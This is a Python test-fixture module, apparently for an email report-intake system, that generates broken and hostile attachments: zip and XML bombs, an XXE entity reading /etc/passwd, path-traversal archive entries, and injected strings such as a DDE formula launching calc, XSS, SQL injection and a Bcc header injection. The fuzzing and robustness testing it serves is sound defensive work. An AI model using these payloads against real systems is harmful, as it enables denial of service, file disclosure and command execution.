"""Files that are broken, or made to break their reader."""
import base64
import io
import random
import struct
import zipfile

from .. import office, paper, writers
from ..cases import ANY, EITHER, case
from ..mail import File, Mail
from ..report import DEPLOYED, INFORMED, Case, Report, report, unit
from ..sheet import Sheet, annex
from .envelope import book, encrypted, zipped

UNREADABLE = ["unreadable_attachment", "too_large", "no_report_found", "missing_figure"]
FAILED = ["returned", "review"]


def cases(rng):
    def of(name, file, due=FAILED, reasons=UNREADABLE, **mail):
        one = report(rng)
        data = file(one) if callable(file) and not isinstance(file, office.Made) else file
        made = data if isinstance(data, File) else File("bao cao.xlsx", data)
        mail.setdefault("subject", "Bao cao CV 284/TTCNTT-KTHT")
        return case(f"hostile-{name}", one if "accepted" in due else None, made, due=due, reasons=reasons, unit=one.unit, texts=False, **mail)

    for cut in (1, 4, 30, 100, 1000, 3000, 5000, -1, -22, -100):
        yield of(f"truncated-{'end' if cut < 0 else ''}{abs(cut)}", lambda r: book(r)[:cut], due=FAILED if cut not in (-1,) else ["returned", "review", "accepted"])
    for kind, make in (("xls", lambda r: writers.xlwt([annex(r)])), ("docx", lambda r: paper.python_docx(paper.annex(r))), ("pdf", lambda r: paper.reportlab(paper.annex(r)))):
        for share in (0.2, 0.5, 0.9):
            yield of(f"truncated-{kind}-{int(share * 100)}", lambda r: File(f"bao cao.{kind}", make(r)[:int(len(make(r)) * share)]), due=["returned", "review", "accepted"], reasons=[])
    yield of("encrypted", lambda r: encrypted(book(r)))
    yield of("encrypted-docx", lambda r: File("bao cao.docx", encrypted(paper.python_docx(paper.annex(r)))))
    yield of("encrypted-zip", lambda r: File("bao cao.zip", locked(zipped([("bao cao.xlsx", book(r))], store=True))))
    yield of("encrypted-pdf", lambda r: File("bao cao.pdf", locked_pdf(paper.reportlab(paper.annex(r)))))
    yield of("empty", b"")
    yield of("one-byte", b"x")
    yield of("zeros", bytes(20_000))
    noise = random.Random(7)
    for kind in ("xlsx", "xls", "docx", "doc", "pdf", "ods", "zip", "rtf", "csv"):
        yield of(f"noise-{kind}", File(f"bao cao.{kind}", noise.randbytes(3000)))
        magic = {"xlsx": b"PK\3\4", "docx": b"PK\3\4", "ods": b"PK\3\4", "zip": b"PK\3\4", "xls": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "pdf": b"%PDF-1.7\n", "rtf": b"{\\rtf1 ", "csv": b"a,b\n"}[kind]
        yield of(f"noise-behind-magic-{kind}", File(f"bao cao.{kind}", magic + noise.randbytes(3000)))
    for at in range(12):
        yield of(f"flipped-xlsx-{at}", lambda r: flipped(book(r), at), due=["review", "returned", "accepted"], reasons=[])
        yield of(f"flipped-xls-{at}", lambda r: File("bao cao.xls", flipped(writers.xlwt([annex(r)]), at, 2)), due=["returned", "review", "accepted", "ignored"], reasons=[])
    # The subject alone says that the file may be the report; the file does not, and cannot be read.
    for kind, data in (("truncated", lambda r: book(r)[:2000]), ("encrypted", lambda r: encrypted(book(r))), ("picture", File("scan.png", paper.picture("PNG", (900, 1200))))):
        yield of(f"hinted-{kind}", data, subject="{unit} gửi báo cáo kết quả chiến dịch", text="Gửi anh/chị báo cáo của đơn vị em ạ.")
    yield of("bomb-zip", File("bao cao.zip", zipped([("bao cao.xlsx", bytes(300_000_000))])), reasons=["too_large", "unreadable_attachment", "no_report_found"])
    yield of("bomb-nested", File("bao cao.zip", nest(10)))
    yield of("bomb-sheet", lambda r: replaced(book(r), "xl/worksheets/sheet1.xml", b"<worksheet><sheetData>" + b"<row><c t='n'><v>1</v></c></row>" * 2_000_000))
    yield of("bomb-entities", lambda r: replaced(book(r), "xl/worksheets/sheet1.xml", laughs()))
    yield of("external-entity", lambda r: replaced(shared(r), "xl/sharedStrings.xml", b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><sst><si><t>&x;</t></si></sst>'), due=["returned", "review", "ignored"])
    yield of("bomb-docx", lambda r: File("bao cao.docx", replaced(paper.python_docx(paper.annex(r)), "word/document.xml", b"<w:document><w:body>" + b"<w:tbl><w:tr><w:tc>" * 30_000)))
    yield of("bomb-strings-count", lambda r: replaced(shared(r), "xl/sharedStrings.xml", b'<sst uniqueCount="4000000000" count="4000000000"></sst>'), due=["returned", "review", "ignored"])
    yield of("far-cell", far_cell, due=EITHER, reasons=[])
    yield of("many-entries", File("bao cao.zip", zipped([(f"{n}.txt", b"x") for n in range(5_000)])))
    yield of("many-entries-and-report", lambda r: File("bao cao.zip", zipped([*[(f"{n}.txt", b"x") for n in range(300)], ("z.xlsx", book(r))])), due=ANY, reasons=[])
    yield of("path-traversal", lambda r: File("bao cao.zip", zipped([("../../../../tmp/bao cao.xlsx", book(r)), ("/etc/passwd", b"x")])), due=["accepted"], reasons=[])
    yield of("name-traversal", lambda r: File("../../../../tmp/bao cao.xlsx", book(r)), due=["accepted"], reasons=[])
    yield of("name-control", lambda r: File("bao\u202excod.cao\u0007.xlsx", book(r), naming="2231"), due=["accepted"], reasons=[])
    yield of("macro", lambda r: File("bao cao.xlsm", replaced(book(r), "[Content_Types].xml", None)), due=["accepted"], reasons=[])
    for turn, text in enumerate(('=cmd|"/c calc"!A1', "@SUM(1+1)", "+1+cmd", '<script>alert(1)</script>', "{{7*7}}", "'; DROP TABLE x; --", "\r\nBcc: x@evil.example", "%s%s%n")):
        one = report(rng, assessment=text)
        yield case(f"hostile-injected-{turn}", one, ("xlsx", writers.openpyxl([annex(one, True)])), texts=False)
        one = report(rng, written=text)
        yield case(f"hostile-injected-name-{turn}", None, ("xlsx", writers.openpyxl([annex(one, True)])), unit=one.unit, due=["review", "returned"] if turn != 4 else ["review", "returned", "accepted"])
    one = report(rng)
    many = [File(f"{n}.txt", b"x", encoding="7bit") for n in range(2_000)]
    yield case("hostile-many-attachments", one, *many, File("bao cao.xlsx", book(one)), due=EITHER, texts=False)
    mail = Mail(unit("vu-phap-che"), [], seed=2, subject="Bao cao CV 284")
    def deep(levels):
        out = []
        for level in range(levels):
            out.append(f'Content-Type: multipart/mixed; boundary="b{level}"\r\n\r\n--b{level}\r\n')
        return "".join(out).encode()
    yield Case("hostile-nested-multiparts", lambda: ("\r\n".join(mail.head()) + "\r\n").encode() + deep(5_000), ["returned", "review", "ignored"])
    yield Case("hostile-nested-messages", lambda: ("\r\n".join(mail.head()) + "\r\n").encode() + b"Content-Type: message/rfc822\r\n\r\n" * 20_000, ["returned", "review", "ignored"])
    yield Case("hostile-header-only", lambda: "\r\n".join(mail.head()).encode(), ["ignored"])
    yield Case("hostile-long-header", lambda: b"X: " + b"a" * 3_000_000 + b"\r\n" + mail(), ["ignored", "review", "returned"])
    yield Case("hostile-many-headers", lambda: b"X-A: b\r\n" * 200_000 + mail(), ["ignored", "review", "returned"])
    yield Case("hostile-random-bytes", lambda: random.Random(3).randbytes(20_000), ["ignored", "review", "returned"])
    yield Case("hostile-empty-file", lambda: b"", ["ignored", "review", "returned"])
    yield Case("hostile-nothing-but-zeros", lambda: bytes(5_000), ["ignored", "review", "returned"])
    one = report(rng)
    yield case("hostile-boundary-missing", one, ("xlsx", book(one)), finish=lambda b: b.replace(b"; boundary=", b"; limit="), due=["accepted", "returned", "review", "ignored"], texts=False)
    one = report(rng)
    yield case("hostile-boundary-empty", one, ("xlsx", book(one)), boundary="", finish=lambda b: b, due=EITHER + ["ignored"], texts=False)
    one = report(rng)
    sheet = annex(one)
    for row in range(1000):
        for column in range(60):
            sheet.put(30 + row, column, row * column)
    yield case("hostile-large-sheet", one, ("xlsx", writers.xlsxwriter([sheet])), due=EITHER)
    one = report(rng)
    sheet = annex(one)
    for row in range(3000):
        sheet.put(40 + row, 1, INFORMED), sheet.put(40 + row, 2, row)
    yield case("hostile-label-repeated", None, ("xlsx", writers.xlsxwriter([sheet])), unit=one.unit, due=FAILED, texts=False)


def shared(one):
    return writers.xlsxwriter([annex(one)])


def flipped(data, seed, count=3):
    """Some bytes of the directory or the data changed."""
    rng = random.Random(seed)
    data = bytearray(data)
    for _ in range(count):
        data[rng.randrange(len(data))] ^= 1 << rng.randrange(8)
    return bytes(data)


def locked(archive):
    """The flag of encryption set in both headers."""
    data = bytearray(archive)
    for magic, offset in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        at = data.find(magic)
        data[at + offset] |= 1
    return bytes(data)


def locked_pdf(data):
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(data)))
    writer.encrypt("mat khau")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def nest(levels):
    data = b"x" * 1000
    for level in range(levels):
        data = zipped([(f"{level}.zip", data)])
    return data


def replaced(data, part, content):
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        assert part in source.namelist()
        for entry in source.infolist():
            fresh = content if entry.filename == part and content is not None else source.read(entry)
            if entry.filename == part and content is None:
                fresh = fresh.replace(b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml")
            target.writestr(entry, fresh)
    return out.getvalue()


def laughs():
    entities = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10 if n else "ha"}">' for n in range(9))
    return f'<?xml version="1.0"?><!DOCTYPE x [{entities}]><worksheet><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&a8;</t></is></c></row></sheetData></worksheet>'.encode()


def far_cell(report):
    sheet = annex(report).put(1_048_575, 16_383, "x")
    return writers.xlsxwriter([sheet])
